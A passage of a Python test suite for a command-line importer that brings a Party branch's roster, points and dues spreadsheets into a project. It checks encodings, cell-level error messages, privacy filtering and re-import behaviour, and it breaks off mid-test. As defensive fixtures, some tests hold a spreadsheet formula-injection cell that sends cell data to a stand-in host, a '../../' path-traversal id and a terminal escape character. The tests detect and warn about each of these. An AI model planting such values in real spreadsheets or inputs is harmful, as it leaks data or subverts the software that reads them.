"""`dangjian import`: a branch's real sheets (Excel, GBK CSV) into a fresh project.

The sheets are made here with openpyxl and the csv module, with the headings a branch's
花名册, 积分表 and the dues platform's export really have.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import hashlib
import io
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from support import REPO, clean_env, cli_command, run_cli

from generator.cli import data as data_commands
from generator.load.validate import load_project
from generator.load.yamlio import read_yaml
from generator.model.problems import one_line

ROSTER_HEAD = ["序号", "姓名", "性别", "民族", "出生日期", "入党时间", "党员类别", "岗位", "党小组",
               "身份证号", "手机号码", "家庭住址"]
ROSTER = [
    [1, "王建国", "男", "汉族", "1975-03-02", dt.datetime(1998, 7, 1), "正式党员", "计划发展部经理", "第一党小组",
     "000000197503020011", "100-0000-1001", "示例市示例路11号"],
    [2, "刘晓燕", "女", "汉族", "1988-11-20", "2010/6/28", "正式党员", "人力资源部主管", "第二党小组",
     "000000198811200022", "100-0000-1002", "示例市示例路12号"],
    [3, "孙浩然", "男", "回族", "1996-05-04", "2025年9月18日", "预备", "信息技术专员", "第二党小组",
     "000000199605040033", "100-0000-1003", "示例市示例路13号"],
]


def _cli(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="dangjian")
    data_commands.register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args([str(a) for a in argv])
    return args.func(args)


def _check(project: Path) -> subprocess.CompletedProcess:
    return run_cli("check", project, cwd=REPO)


def _digest(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            h.update(path.relative_to(folder).as_posix().encode())
            h.update(path.read_bytes())
    return h.hexdigest()


def _xlsx(path: Path, sheet: str, rows: list[list], title: str | None = None) -> Path:
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = sheet
    if title:
        ws.append([title])
    for row in rows:
        ws.append(row)
    book.save(path)
    return path


def _csv(path: Path, rows: list[list], encoding: str) -> Path:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


@pytest.fixture
def project(tmp_path) -> Path:
    target = tmp_path / "支部"
    done = run_cli("new", target, cwd=REPO)
    assert done.returncode == 0, done.stderr
    for examples in ("points", "dues"):  # the sheets below fill these from empty, as a first import does
        shutil.rmtree(target / "data" / examples)
    return target


@pytest.fixture
def sheets(tmp_path) -> dict[str, Path]:
    roster = _xlsx(tmp_path / "党员花名册.xlsx", "花名册", [ROSTER_HEAD, *ROSTER], title="某党支部党员花名册（2026年）")
    points = _xlsx(tmp_path / "积分登记表.xlsx", "9月", [
        ["日期", "姓名", "指标", "分值", "事由"],
        [dt.datetime(2026, 9, 15), "王建国", "E2", 1, "主题党日出勤"],
        ["2026-09-15", "刘晓燕", "E2", 1, "主题党日出勤"],
        ["2026-09-20", "孙浩然", "志愿服务时长", 3, "敬老院志愿服务 3 小时"],
        ["2026-10-08", "张示例", "L1", 1, "政治学习出勤"],
        ["2026-10-09", "刘晓燕", "扣分", 2, "无故缺席党小组会"],
    ])
    dues = _csv(tmp_path / "党费缴纳明细.csv", [
        ["序号", "党员姓名", "所属支部", "缴费月份", "缴费金额（元）", "缴费时间", "支付方式"],
        [1, "王建国", "某党支部", "2026年9月", "￥150.00", "2026-09-01 00:00:41", "微信支付"],
        [2, "刘晓燕", "某党支部", "2026年9月", "62.50", "2026/9/1 0:02", "微信支付"],
        [3, "孙浩然", "某党支部", "2026年9月", "12", "2026-10-03 09:15:00", "支付宝"],
        [4, "张示例", "某党支部", "2026年10月", "150", "2026-10-01 00:00:05", "微信支付"],
        ["合计", "", "", "", "374.5", "", ""],
    ], "gbk")
    return {"roster": roster, "points": points, "dues": dues}


def test_roster_points_and_dues_import_into_a_project_that_checks_clean(project, sheets, capsys):
    assert _cli("import", "roster", sheets["roster"], project) == 0
    assert _cli("import", "points", sheets["points"], project) == 0
    assert _cli("import", "dues", sheets["dues"], project) == 0
    out = capsys.readouterr().out
    assert "GB18030" in out  # the user is told how the CSV was read

    checked = _check(project)
    assert checked.returncode == 0, checked.stderr
    branch = load_project(project).project.branches[0]
    new = {m.name: m for m in branch.members if m.name in ("王建国", "刘晓燕", "孙浩然")}
    assert [new[n].joined for n in ("王建国", "刘晓燕", "孙浩然")] == \
        [dt.date(1998, 7, 1), dt.date(2010, 6, 28), dt.date(2025, 9, 18)]
    assert new["孙浩然"].status == "预备党员"
    assert new["王建国"].id == "m04"  # continues the roster's own numbering
    assert {(p.member, p.indicator, p.points) for p in branch.points} >= {
        (new["孙浩然"].id, "S1", 3.0), ("m01", "L1", 1.0), (new["刘晓燕"].id, "扣分", 2.0)}
    months = {d.month: {p.member: p.paid_at for p in d.payments} for d in branch.dues}
    assert months["2026-09"][new["王建国"].id] == dt.datetime(2026, 9, 1, 0, 0, 41)
    assert months["2026-09"][new["孙浩然"].id] == dt.datetime(2026, 10, 3, 9, 15)  # paid late, owed for September
    assert months["2026-10"]["m01"] == dt.datetime(2026, 10, 1, 0, 0, 5)

    # Private columns stayed out of the repository; amounts too (they reveal income).
    data_text = "".join(p.read_text(encoding="utf-8") for p in (project / "data").rglob("*.yml"))
    for secret in ("000000197503020011", "100-0000-1001", "示例路11号", "150", "62.5"):
        assert secret not in data_text
    assert all(p.amount is None for d in branch.dues for p in d.payments)

    # Re-importing the same files adds nothing and changes no byte.
    before = _digest(project)
    for kind in ("roster", "points", "dues"):
        assert _cli("import", kind, sheets[kind], project) == 0
    assert _digest(project) == before
    assert capsys.readouterr().out.count("新增 0 条") == 3


def test_written_yaml_reads_like_the_sample_files(project, sheets):
    _cli("import", "roster", sheets["roster"], project)
    _cli("import", "dues", sheets["dues"], project)
    members = (project / "data" / "members.yml").read_text(encoding="utf-8")
    assert "- id: m04\n  name: 王建国\n  gender: 男\n  joined: 1998-07-01\n" in members
    assert members.startswith("# 党员名册")  # the scaffold's comment header is kept
    dues = (project / "data" / "dues" / "2026-09.yml").read_text(encoding="utf-8")
    assert dues.startswith("# 2026年9月党费交纳记录")
    assert "payments:\n  - member: m04    # 王建国\n    paid_at: 2026-09-01 00:00:41\n" in dues


def test_dry_run_prints_the_diff_and_writes_nothing(project, sheets, capsys):
    before = _digest(project)
    assert _cli("import", "roster", sheets["roster"], project, "--dry-run") == 0
    out = capsys.readouterr().out
    assert _digest(project) == before
    assert "将新增 3 条：" in out and "+++" not in out  # a table of what would be added, not a diff
    header = next(line for line in out.splitlines() if line.strip().startswith("文件"))
    assert "姓名" in header and "入党时间" in header
    assert any("data/members.yml" in line and "刘晓燕" in line for line in out.splitlines())
    assert "没有写入任何文件" in out


def test_every_bad_cell_is_reported_with_sheet_and_cell_and_nothing_is_written(project, tmp_path, capsys):
    bad = _xlsx(tmp_path / "花名册.xlsx", "花名册", [
        ["姓名", "性别", "入党时间", "党员类别", "岗位"],
        ["周明", "男", "2003-02-30", "正式党员", "审计员"],
        ["吴芳", "不详", "2011-07-01", "正式党员", "会计"],
        ["郑强", "男", "2014-07", "党员", "出纳"],
        ["吴芳", "女", "2012-07-01", "正式党员", "会计"],
        ["", "男", "", "正式党员", "司机"],
    ])
    before = _digest(project)
    assert _cli("import", "roster", bad, project) == 1
    err = capsys.readouterr().err.splitlines()
    ref = str(bad)
    expected_prefixes = [
        f"{ref}:花名册!C2: “入党时间”“2003-02-30”不是日历上存在的日期",
        f"{ref}:花名册!B3: “性别”“不详”不是可选的值",
        f"{ref}:花名册!D4: “党员类别”“党员”不是可选的值",
        f"{ref}:花名册!A5: 与第 3 行重复",
        f"{ref}:花名册!A6: “姓名”是空的",
        f"{ref}:花名册!C6: “入党时间”是空的",
    ]
    assert len(err) == len(expected_prefixes) + 1
    for line, prefix in zip(err, expected_prefixes):
        assert line.startswith(prefix), line
    assert "没有导入任何记录" in err[-1]
    assert _digest(project) == before


def test_utf8_csv_with_bom_is_read_and_the_encoding_named(project, tmp_path, capsys):
    path = tmp_path / "名册.csv"
    _csv(path, [["姓名", "入党日期", "职务"], ["马丽", "2016-07-01", "法务专员"]], "utf-8-sig")
    assert _cli("import", "roster", path, project) == 0
    assert "UTF-8（带 BOM）" in capsys.readouterr().out
    assert any(m.name == "马丽" for m in load_project(project).project.branches[0].members)


def test_an_unreadable_encoding_is_an_error_that_says_what_to_do(project, tmp_path, capsys):
    path = tmp_path / "乱码.csv"
    path.write_bytes(b"\xd0\xd5\xc3\xfb,\x80\xff\n")
    assert _cli("import", "roster", path, project) == 1
    assert "无法识别文件编码" in capsys.readouterr().err


def test_names_resolve_against_the_roster_unknown_and_ambiguous_are_errors(project, tmp_path, capsys):
    twins = _xlsx(tmp_path / "名册.xlsx", "Sheet1", [
        ["党员编号", "姓名", "入党时间"], ["m20", "张伟", "2001-07-01"], ["m21", "张伟", "2015-06-30"]])
    assert _cli("import", "roster", twins, project) == 0
    points = _xlsx(tmp_path / "积分.xlsx", "Sheet1", [
        ["日期", "姓名", "指标", "积分", "事由"],
        ["2026-09-15", "张伟", "E2", 1, "主题党日出勤"],
        ["2026-09-15", "张三", "E2", 1, "主题党日出勤"],
        ["2026-09-15", "李示例", "Z9", 1, "不存在的指标"],
    ])
    before = _digest(project)
    assert _cli("import", "points", points, project) == 1
    err = capsys.readouterr().err
    assert f"{points}:Sheet1!B2: 名册中有 2 名党员叫“张伟”（m20、m21）：请在表格中加一列“党员编号”" in err
    assert f"{points}:Sheet1!B3: “张三”不在党员名册 data/members.yml 中" in err
    assert f"{points}:Sheet1!C4: “Z9”对不上评价体系 data/evaluation.yml 中的任何指标" in err
    assert _digest(project) == before

    with_ids = _xlsx(tmp_path / "积分2.xlsx", "Sheet1", [
        ["日期", "党员编号", "姓名", "指标", "积分"], ["2026-09-15", "m21", "张伟", "E2", 1]])
    assert _cli("import", "points", with_ids, project) == 0
    ledger = [p for p in load_project(project).project.branches[0].points if p.src.path.startswith("data/points/")]
    assert [p.member for p in ledger] == ["m21"]


def test_duplicate_rows_in_a_points_sheet_are_refused(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "积分.xlsx", "Sheet1", [
        ["日期", "姓名", "指标", "分值", "事由"],
        ["2026-09-15", "李示例", "E2", 1, "主题党日出勤"],
        ["2026-09-15", "李示例", "E2", 1, "主题党日出勤"],
    ])
    assert _cli("import", "points", sheet, project) == 1
    assert (f"{sheet}:Sheet1!B3: 与第 2 行重复（李示例 2026-09-15 主题党日出勤（E2） 主题党日出勤）：请删除重复的一行"
            in capsys.readouterr().err)  # the indicator by its Chinese name
    assert not (project / "data" / "points").exists()


def test_a_changed_record_is_a_conflict_until_update_and_comments_survive(project, tmp_path, capsys):
    members = project / "data" / "members.yml"
    members.write_text(members.read_text(encoding="utf-8").replace(
        "  post: 财务专员\n", "  post: 财务专员   # 2024 年起\n# 以下为新入党的同志\n"), encoding="utf-8")
    sheet = _xlsx(tmp_path / "名册.xlsx", "Sheet1", [
        ["编号", "姓名", "入党时间", "岗位", "党小组"],
        ["m03", "王示例", "2019-10-15", "财务部副经理", "第一党小组"],
        ["m09", "新同志", "2024-07-01", "综合管理员", "第一党小组"],
    ])
    before = _digest(project)
    assert _cli("import", "roster", sheet, project) == 1
    err = capsys.readouterr().err
    assert f"{sheet}:Sheet1!D2: 与 data/members.yml:" in err
    assert "工作岗位 “财务专员” → “财务部副经理”" in err and "--update" in err
    assert _digest(project) == before

    old_lines = members.read_text(encoding="utf-8").splitlines()
    assert _cli("import", "roster", sheet, project, "--update") == 0
    text = members.read_text(encoding="utf-8")
    assert "  post: 财务部副经理   # 2024 年起\n  group: 第一党小组\n# 以下为新入党的同志\n" in text
    kept = [line for line in old_lines if "财务专员" not in line]
    assert [line for line in text.splitlines() if line in kept] == kept  # every other line, in order
    assert _check(project).returncode == 0


def test_keep_private_stores_private_columns_only_in_private_fields(project, sheets):
    assert _cli("import", "roster", sheets["roster"], project, "--keep-private") == 0
    parsed = read_yaml(project / "data" / "members.yml", "data/members.yml").value
    wang = next(m for m in parsed if m["name"] == "王建国")
    assert wang["id_number"] == "000000197503020011"  # quoted: leading zeros survive
    assert wang["phone"] == "100-0000-1001"
    assert "民族" not in str(parsed) and "汉族" not in str(parsed)  # a column the spec has no field for
    member = next(m for m in load_project(project).project.branches[0].members if m.name == "王建国")
    assert member.private.address == "示例市示例路11号"


def test_a_mapping_file_names_unusual_headings(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "名册.xlsx", "Sheet1", [
        ["人员姓名", "入党年月", "现任职务", "备用"], ["高峰", "2009-07-01", "安全员", "x"]])
    assert _cli("import", "roster", sheet, project) == 1
    assert "找不到党员名册的表头" in capsys.readouterr().err
    partial = _xlsx(tmp_path / "缺列.xlsx", "Sheet1", [["姓名", "岗位"], ["高峰", "安全员"]])
    assert _cli("import", "roster", partial, project) == 1
    assert f"{partial}: 缺少“入党时间”列：表头应有 入党时间、入党日期" in capsys.readouterr().err
    mapping = tmp_path / "映射.yml"
    mapping.write_text("人员姓名: 姓名\n入党年月: joined\n现任职务: post\n备用: 忽略\n", encoding="utf-8")
    assert _cli("import", "roster", sheet, project, "--mapping", mapping) == 0
    member = next(m for m in load_project(project).project.branches[0].members if m.name == "高峰")
    assert (member.joined, member.post) == (dt.date(2009, 7, 1), "安全员")


def test_appending_to_the_sample_branch_keeps_its_layout(tmp_path, capsys):
    import shutil

    shutil.copytree(REPO / "data", tmp_path / "data")
    dues = tmp_path / "data" / "dues" / "2026-11.yml"
    old = dues.read_text(encoding="utf-8")
    paid = {p.member for d in load_project(tmp_path).project.branches[0].dues if d.month == "2026-11" for p in d.payments}
    missing = next(m for m in load_project(tmp_path).project.branches[0].members if m.id not in paid)
    sheet = _csv(tmp_path / "补交.csv", [["姓名", "交纳时间", "所属月份"], [missing.name, "2026-12-02 10:30", "2026-11"]], "utf-8")
    assert _cli("import", "dues", sheet, tmp_path) == 0
    new = dues.read_text(encoding="utf-8")
    assert new.startswith(old.rstrip("\n"))  # nothing of the user's text is rewritten
    assert new.endswith(f"\n\n  - member: {missing.id}    # {missing.name}\n    paid_at: 2026-12-02 10:30\n")
    assert load_project(tmp_path).ok



def test_a_workbook_whose_first_sheet_has_no_heading_names_its_sheets(project, tmp_path, capsys):
    path = tmp_path / "工作簿.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "说明"
    book.active.append(["本表用于登记党员信息"])
    roster = book.create_sheet("花名册")
    roster.append(["姓名", "性别", "入党时间", "党员类别"])
    roster.append(["赵　敏", "女", "2021.07", "正式党员"])  # aligned with a full-width space; a year and month only
    book.save(path)
    assert _cli("import", "roster", path, project) == 1
    assert "这个文件还有工作表 花名册：要导入其中一张，请加 --sheet 工作表名，如 --sheet 花名册" in capsys.readouterr().err
    assert _cli("import", "roster", path, project, "--sheet", "名册") == 1
    assert "没有名为“名册”的工作表：这个文件的工作表有 说明、花名册" in capsys.readouterr().err
    assert _cli("import", "roster", path, project, "--sheet", "花名册") == 0
    out = capsys.readouterr().out
    assert f"提示：{path}:花名册!C2: “入党时间”“2021.07”只有年月，按 2021-07-01（当月 1 日）导入" in out
    member = next(m for m in load_project(project).project.branches[0].members if m.name == "赵敏")
    assert member.joined == dt.date(2021, 7, 1)


def test_filling_an_empty_cell_is_not_a_conflict(project, tmp_path, capsys):
    first = _xlsx(tmp_path / "名册1.xlsx", "Sheet1", [["姓名", "性别", "入党时间"], ["钱进", "男", "2010-07-01"]])
    assert _cli("import", "roster", first, project) == 0
    capsys.readouterr()
    more = _xlsx(tmp_path / "名册2.xlsx", "Sheet1", [["姓名", "性别", "入党时间", "岗位"], ["钱进", "男", "2010-07-01", "出纳"]])
    assert _cli("import", "roster", more, project) == 0, capsys.readouterr().err
    assert "补填空项 1 条" in capsys.readouterr().out
    member = next(m for m in load_project(project).project.branches[0].members if m.name == "钱进")
    assert member.post == "出纳"
    changed = _xlsx(tmp_path / "名册3.xlsx", "Sheet1", [["姓名", "性别", "入党时间", "岗位"], ["钱进", "男", "2010-07-01", "会计"]])
    assert _cli("import", "roster", changed, project) == 1  # overruling a value still needs --update
    assert "岗位 “出纳” → “会计”" in capsys.readouterr().err


def test_a_year_and_month_in_a_number_cell_keeps_its_two_digit_month(project, tmp_path, capsys):
    """Excel keeps 2021.10 typed in a number cell as the float 2021.1: October, not January."""
    sheet = _xlsx(tmp_path / "名册.xlsx", "Sheet1", [["姓名", "性别", "入党时间"], ["周十月", "男", 2021.10], ["周七月", "男", 2021.07]])
    assert _cli("import", "roster", sheet, project) == 0
    out = capsys.readouterr().out
    assert "“入党时间”“2021.10”只有年月，按 2021-10-01（当月 1 日）导入" in out
    joined = {m.name: m.joined for m in load_project(project).project.branches[0].members}
    assert joined["周十月"] == dt.date(2021, 10, 1) and joined["周七月"] == dt.date(2021, 7, 1)


def test_a_fill_that_a_one_line_record_can_not_take_is_a_note_not_a_stop(project, tmp_path, capsys):
    month = project / "data/dues/2026-09.yml"
    month.parent.mkdir(parents=True, exist_ok=True)
    month.write_text("zero_hour: false\npayments:\n  - {member: m01, paid_at: 2026-09-01 08:30}\n", encoding="utf-8")
    sheet = _csv(tmp_path / "党费.csv", [
        ["党员姓名", "缴费月份", "缴费金额（元）", "缴费时间"],
        ["张示例", "2026年9月", "50", "2026-09-01 08:30"],
        ["李示例", "2026年9月", "30", "2026-09-02 09:00"],
    ], "utf-8")
    assert _cli("import", "dues", sheet, project, "--keep-private") == 0, capsys.readouterr().err
    out = capsys.readouterr().out
    assert "提示：" in out and "单行写法" in out  # the amount of m01 could not be added to its one-line record
    assert "新增 1 条" in out


def _limited_import(*argv) -> subprocess.CompletedProcess:
    """`dangjian import` in a process that may not take more than 1 GiB (a runaway read fails fast, not the machine)."""
    resource = pytest.importorskip("resource")  # POSIX only

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    return subprocess.run(cli_command("import", *argv), preexec_fn=limit,
                          env=clean_env(), capture_output=True, text=True, encoding="utf-8", cwd=REPO, timeout=120)


@pytest.mark.parametrize("far", ["XFD1048576", "A100001", "IW2"])
def test_a_cell_far_outside_any_roster_is_refused_naming_the_sheet(project, tmp_path, far):
    """A 5 KB workbook with one far cell used to build every row up to it in memory."""
    path = tmp_path / "名册.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "花名册"
    ws.append(["姓名", "性别", "入党时间"])
    ws.append(["周明", "男", "2003-02-01"])
    ws[far] = "x"
    book.save(path)
    assert path.stat().st_size < 6000
    before = _digest(project)
    done = _limited_import("roster", path, project)
    column, row = re.fullmatch(r"([A-Z]+)(\d+)", far).groups()
    assert done.returncode == 1
    assert done.stderr == (f"{path}:花名册!{far}: 工作表“花名册”在第 {row} 行、{column} 列还有内容或格式，"
                           "远远超出一份名册或台账的范围（最多 100000 行、256 列），无法导入："
                           "请只选中有数据的行和列，复制到一个新的工作表（或新文件）再导入\n")
    assert _digest(project) == before


def test_a_csv_is_held_to_the_same_bounds_and_its_trailing_commas_are_nothing(project, tmp_path, capsys):
    far = tmp_path / "远.csv"
    far.write_text("姓名,入党时间\n马丽,2016-07-01" + "," * 298 + "x\n", encoding="utf-8")
    assert _cli("import", "roster", far, project) == 1
    assert capsys.readouterr().err == (f"{far}:KN2: 这个文件在第 2 行、KN 列还有内容或格式，远远超出一份名册或台账的范围"
                                       "（最多 100000 行、256 列），无法导入：请只选中有数据的行和列，复制到一个新的工作表（或新文件）再导入\n")
    commas = tmp_path / "名册.csv"  # Excel's CSV keeps a comma for every empty column of the used range
    commas.write_text("姓名,入党时间" + "," * 20000 + "\n马丽,2016-07-01" + "," * 20000 + "\n", encoding="utf-8")
    assert _cli("import", "roster", commas, project) == 0
    assert any(m.name == "马丽" for m in load_project(project).project.branches[0].members)


def _typed_xlsx(path: Path, sheet: str, rows: list[list], escapes: dict[str, str] | None = None) -> Path:
    """A sheet whose text cells are text as a user typed them (a leading "=" stays text, as after a "'"),
    with `escapes` written into the sheet's XML as Excel writes characters XML cannot hold (`_x000B_`)."""
    import zipfile

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = sheet
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = ws.cell(row=r, column=c)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    book.save(path)
    if escapes:
        with zipfile.ZipFile(path) as old:
            parts = {name: old.read(name) for name in old.namelist()}
        for placeholder, escape in escapes.items():
            parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(placeholder.encode(), escape.encode())
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
            for name, data in parts.items():
                new.writestr(name, data)
    return path


def _yaml_message(key: str, value: str) -> str | None:
    """What `check` says about this value of a roster field in a hand-written members.yml, if anything."""
    from generator.load.fields import Checker
    from generator.model import spec

    checker = Checker("data/members.yml")
    checker.value(value, spec.MEMBER.by_key[key], 1)
    return checker.problems[0].message if checker.problems else None


LONG_ID = "m" + "0" * 64
ROSTER_CASES = {  # case: (id cell, name cell, the column and message expected at that cell)
    "newline": ("m10", "王建国\n（退休）", "B", "“姓名”应是一行文字：请删除单元格里的换行"),
    "dotdot-id": ("../../index", "赵六", "A",
                  "“id”（编号）“../../index”只能由英文字母、数字、- 和 _ 组成（不超过 64 个字符），如 m01"),
    "long-id": (LONG_ID, "赵七", "A",
                f"“id”（编号）“{LONG_ID[:30]}…”只能由英文字母、数字、- 和 _ 组成（不超过 64 个字符），如 m01"),
    # these follow whatever load/fields.py says of the same text in members.yml
    "control-character": ("m11", "李ESC[31m四", "B",  # Excel keeps ESC as _x001B_; a terminal would obey it
                          "这个单元格里有一个看不见的控制字符 U+001B（ESC，终端的颜色控制符）：请删除它"),
    "bidi-control": ("m12", "钱七\u202e", "B", None),
    "long-name": ("m13", "张" * 300, "B", None),
}


@pytest.mark.parametrize("case", list(ROSTER_CASES))
def test_a_bad_roster_cell_is_told_at_its_cell_as_check_would_tell_it(project, tmp_path, capsys, case):
    """Names from someone else's sheet pass the same field checks as a hand-written members.yml."""
    member_id, name, column, message = ROSTER_CASES[case]
    escapes = {"ESC": "_x001B_"} if "ESC" in name else None
    if message is None:
        message = _yaml_message("name", name.replace("ESC", "\x1b"))
        if message is None:
            pytest.skip("load/fields.py does not refuse this text in members.yml either (issue 30.6/30.11)")
    sheet = _typed_xlsx(tmp_path / "名册.xlsx", "花名册", [
        ["编号", "姓名", "性别", "入党时间"], ["m20", "孙正", "男", "2008-07-01"], [member_id, name, "男", "2003-02-01"]],
        escapes)
    before = _digest(project)
    assert _cli("import", "roster", sheet, project) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == one_line(f"{sheet}:花名册!{column}3: {message}")  # the terminal shows an ESC as \x1b
    assert len(err) == 2 and "没有导入任何记录" in err[-1]
    assert _digest(project) == before


def test_what_check_finds_in_an_imported_record_is_told_at_the_sheets_cell(project, tmp_path, capsys):
    """A rule about the whole record (here: a 纪律处分 without its date) is told at the row's cell,
    not at a line of a members.yml that was never written."""
    sheet = _typed_xlsx(tmp_path / "名册.xlsx", "花名册", [
        ["姓名", "入党时间", "纪律处分情况"], ["孙正", "2008-07-01", None], ["周明", "2010-07-01", "诫勉谈话"]])
    before = _digest(project)
    assert _cli("import", "roster", sheet, project, "--keep-private") == 1
    assert capsys.readouterr().err.splitlines() == [
        f"{sheet}:花名册!A3: “discipline”（纪律处分情况）有 1 条没有写日期：每条请以年月开头，如“2026年3月 诫勉谈话”；"
        "金榜题名按处分所在年度取消资格",
        "导入后的数据通不过检查，没有写入任何文件。"]
    assert _digest(project) == before


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_pointed_out(project, tmp_path, capsys):
    formula = '=HYPERLINK("http://x/?"&B2,"点我")'
    sheet = _typed_xlsx(tmp_path / "名册.xlsx", "花名册", [
        ["姓名", "入党时间", "岗位", "党小组", "手机号码"],
        [formula, "2008-07-01", "+1 岗", "@第一党小组", "+8613800000000"],
        ["周明", "2010-07-01", "-", "-", "+8613800000001"]])
    assert _cli("import", "roster", sheet, project, "--keep-private") == 0
    notes = [line for line in capsys.readouterr().out.splitlines() if line.startswith("提示：")]
    tail = "在 Excel 或 WPS 里可能被当成公式执行（如点击后把数据发往别处的链接）：请核对这一格是否本该如此；dangjian 导出的表格总把它当作文字"
    assert notes == [  # a phone number may start with +, and a lone "-" is no formula
        f"提示：{sheet}:花名册!A2: “姓名”“{formula}”以“=”开头，{tail}",
        f"提示：{sheet}:花名册!C2: “工作岗位”“+1 岗”以“+”开头，{tail}",
        f"提示：{sheet}:花名册!D2: “党小组”“@第一党小组”以“@”开头，{tail}",
    ]
    assert formula in [m.name for m in load_project(project).project.branches[0].members]  # a warning, not a refusal


# -- issue 34: the layouts branches already have, each imported on the first try --------------------


def _branch(root: Path):
    return load_project(root).project.branches[0]


def _lines(text: str, start: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith(start)]


def test_a_party_system_roster_keeps_political_status_post_and_confirmation(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "党员信息.xlsx", "党员信息", [
        ["序号", "姓名", "性别", "民族", "政治面貌", "入党时间", "转正时间", "工作单位及职务", "公民身份号码", "联系电话", "所在党支部"],
        [1, "韩立新", "男", "汉族", "中共党员", "2001-06-20", "2002-06-20", "财务部科长", "000000197901010011", "100-0000-2001", "机关第一党支部"],
        [2, "程雪", "女", "汉族", "中共预备党员", "2026-03-15", None, "办公室文员", "000000199901010022", "100-0000-2002", "机关第一党支部"],
        [3, "邵文", "男", "汉族", "中共党员", "2010-07-01", None, "审计部主任", "000000198001010033", "100-0000-2003", "机关第一党支部"],
        [4, "邱明", "男", "汉族", None, "2015-07-01", "2016-07-01", "综合部职员", "000000198501010044", "100-0000-2004", "机关第一党支部"],
    ], title="机关第一党支部党员信息（系统导出）")
    assert _cli("import", "roster", sheet, project) == 0
    out = capsys.readouterr().out
    assert _lines(out, "导入的列") == [
        "导入的列：姓名→姓名、性别→性别、政治面貌→党员类别、入党时间→入党时间、转正时间→党员类别（填了转正时间即为正式党员）、"
        "工作单位及职务→工作岗位"]
    assert _lines(out, "未导入的") == [
        "未导入的隐私列：公民身份号码、联系电话（属于个人隐私，默认不存入数据文件；确需保存时加 --keep-private，只存入网站永不显示的隐私字段）",
        "未导入的列：序号（只是行号）；民族（网站没有这一项）；所在党支部（导入的就是本支部）"]
    members = {m.name: m for m in _branch(project).members}
    assert {n: (members[n].status, members[n].post) for n in ("韩立新", "程雪", "邵文", "邱明")} == {
        "韩立新": ("正式党员", "财务部科长"), "程雪": ("预备党员", "办公室文员"),
        "邵文": ("正式党员", "审计部主任"), "邱明": ("正式党员", "综合部职员")}
    text = (project / "data" / "members.yml").read_text(encoding="utf-8")
    assert "000000197901010011" not in text and "100-0000-2001" not in text
    before = _digest(project)
    assert _cli("import", "roster", sheet, project) == 0
    assert "新增 0 条" in capsys.readouterr().out and _digest(project) == before


def test_a_roster_row_that_is_no_member_or_contradicts_its_confirmation_is_told_at_its_cell(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "党员信息.xlsx", "Sheet1", [
        ["姓名", "政治面貌", "入党时间", "转正时间"],
        ["韩立新", "群众", "2001-06-20", None],
        ["程雪", "中共预备党员", "2025-03-15", "2026-03-15"],
        ["邵文", "中共党员", "2010-07-01", "2009-07-01"],
    ])
    before = _digest(project)
    assert _cli("import", "roster", sheet, project) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"{sheet}:Sheet1!B2: “党员类别”是“群众”，不是党员：党员名册只收本支部党员，请删除这一行",
        f"{sheet}:Sheet1!B3: 写的是“预备党员”，但已有转正时间 2026-03-15：已转正的请改为“正式党员”（或“中共党员”），未转正的请清空转正时间",
        f"{sheet}:Sheet1!D4: 转正时间 2009-07-01 早于入党时间 2010-07-01：请核对这两格",
        "共 3 处问题，没有导入任何记录：请改正表格后重新导入。"]
    assert _digest(project) == before


POINTS_IN_WORDS = [
    ["日期", "姓名", "积分项目", "分值", "备注说明"],
    [dt.datetime(2026, 9, 15), "张示例", "参加主题党日", 1, "9月主题党日"],
    ["2026-09-20", "李示例", "志愿服务", 3, "社区义诊"],
    ["2026-09-25", "张示例", "无故缺席组织生活", -2, "9月党小组会"],
    ["2026-09-26", "李示例", "帮带新同志", 2, None],
    ["2026-09-27", "王示例", "参加政治学习", 1, None],
]


def test_a_points_ledger_in_words_matches_indicator_names_records_and_the_branchs_own_words(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "积分台账.xlsx", "9月", POINTS_IN_WORDS, title="2026年9月党员积分登记")
    mapping = tmp_path / "映射.yml"
    mapping.write_text("指标:\n  帮带新同志: 谈心·帮带·政治生日组织\n", encoding="utf-8")
    assert _cli("import", "points", sheet, project, "--mapping", mapping) == 0, capsys.readouterr().err
    out = capsys.readouterr().out
    assert "导入的列：日期→日期、姓名→党员、积分项目→指标、分值→分值、备注说明→事由" in out
    assert "  indicator: E2    # 主题党日出勤\n" in (project / "data/points/2026-09.yml").read_text(encoding="utf-8")
    got = {(p.member, p.indicator, p.points, p.note) for p in _branch(project).points}
    assert got >= {("m01", "E2", 1, "9月主题党日"), ("m02", "S1", 3, "社区义诊"),
                   ("m01", "扣分", 2, "无故缺席组织生活：9月党小组会"), ("m02", "O4", 2, "帮带新同志"),
                   ("m03", "L1", 1, "参加政治学习")}
    before = _digest(project)
    assert _cli("import", "points", sheet, project, "--mapping", mapping) == 0
    assert "新增 0 条" in capsys.readouterr().out and _digest(project) == before


def test_words_that_match_no_indicator_are_told_by_the_indicators_chinese_names(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "积分台账.xlsx", "9月", POINTS_IN_WORDS)
    assert _cli("import", "points", sheet, project) == 1
    assert capsys.readouterr().err.splitlines() == [
